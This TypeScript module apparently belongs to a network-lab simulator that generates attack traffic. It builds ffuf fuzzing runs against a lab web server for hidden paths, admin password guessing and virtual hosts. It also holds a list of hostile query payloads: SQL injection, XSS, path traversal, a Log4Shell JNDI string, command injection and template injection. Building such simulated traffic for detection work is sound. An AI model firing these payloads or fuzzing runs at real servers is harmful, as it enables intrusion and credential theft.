import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { createRandom, type Random } from '../random.ts';
import type { Attack, TimeWindow } from '../scenario.ts';
import { towards } from './footprint.ts';

/** One attacker's ffuf against the web server. */
export interface WebFuzz {
  readonly attacker: number;
  readonly port: 80 | 443 | 8080;
  /** paths: hidden files. parameters: hostile values in a query. logins: passwords in a form. hosts: virtual hosts. */
  readonly kind: 'paths' | 'parameters' | 'logins' | 'hosts';
  readonly requestsPerSecond: number;
  /** Connections at once, each used again and again. */
  readonly threads: number;
  readonly seed: number;
}

const FOLDERS = [
  'admin',
  'backup',
  '.git',
  'wp-content',
  'old',
  'private',
  'config',
  'cgi-bin',
  'test',
  'files',
  'dev',
];
const NAMES = ['index', 'login', 'config', 'db', 'dump', 'users', 'shell', 'upload', 'info', 'secret', 'panel', 'site'];
const ENDINGS = ['', '.php', '.bak', '.zip', '.sql', '.old', '.txt', '/', '.json', '.env', '.tar.gz'];
const PAYLOADS = [
  "1'+OR+'1'='1",
  "1'+UNION+SELECT+NULL,NULL--+",
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '../../../../etc/hosts',
  '%24%7Bjndi:ldap://x/a%7D',
  '1;sleep+5',
  '%7B%7B7*7%7D%7D',
  '%00',
];
/** More words than the window can use. */
const SPARE = 1.3;

/** The attack; it ends when all words are tried or its window is over. */
export function webFuzz(fuzz: WebFuzz, window: TimeWindow): Attack {
  return {
    ...window,
    family: 'web-attack',
    async play(lab, signal) {
      const seconds = (window.endMs - window.startMs) / 1_000;
      const words = join(lab.scratch, `fuzz-${fuzz.attacker}-${fuzz.seed}`);
      const count = Math.ceil(fuzz.requestsPerSecond * seconds * SPARE) + fuzz.threads;
      await writeFile(words, wordList(createRandom(fuzz.seed), fuzz.kind, count));
      const base = `${fuzz.port === 443 ? 'https' : 'http'}://${lab.hosts.web.ip}:${fuzz.port}`;
      await lab.run(lab.hosts.attackers[fuzz.attacker], ffufCommand(fuzz, words, base), signal);
    },
    footprint: towards(fuzz.attacker, { victim: 'web', port: fuzz.port }),
  };
}

function ffufCommand(fuzz: WebFuzz, words: string, base: string): string[] {
  const meanSeconds = fuzz.threads / fuzz.requestsPerSecond;
  const delay = `${(meanSeconds * 0.6).toFixed(3)}-${(meanSeconds * 1.4).toFixed(3)}`;
  const target = {
    paths: ['-u', `${base}/FUZZ`],
    parameters: ['-u', `${base}/list.json?q=FUZZ`],
    logins: ['-u', `${base}/login`, '-X', 'POST', '-d', 'user=admin&password=FUZZ'],
    hosts: ['-u', `${base}/`, '-H', 'Host: FUZZ.shop.lab'],
  };
  return ['ffuf', '-s', '-mc', 'all', '-t', String(fuzz.threads), '-p', delay, '-w', words, ...target[fuzz.kind]];
}

function wordList(random: Random, kind: WebFuzz['kind'], count: number): string {
  const draw = {
    paths: () => `${random.chance(0.6) ? `${random.pick(FOLDERS)}/` : ''}${word(random)}${random.pick(ENDINGS)}`,
    parameters: () => `${random.integer(1, 9_999)}${random.pick(PAYLOADS)}`,
    logins: () => word(random),
    hosts: () => word(random),
  };
  return `${Array.from({ length: count }, draw[kind]).join('\n')}\n`;
}

function word(random: Random): string {
  return `${random.pick(NAMES)}${random.chance(0.7) ? random.integer(1, 9_999) : ''}`;
}
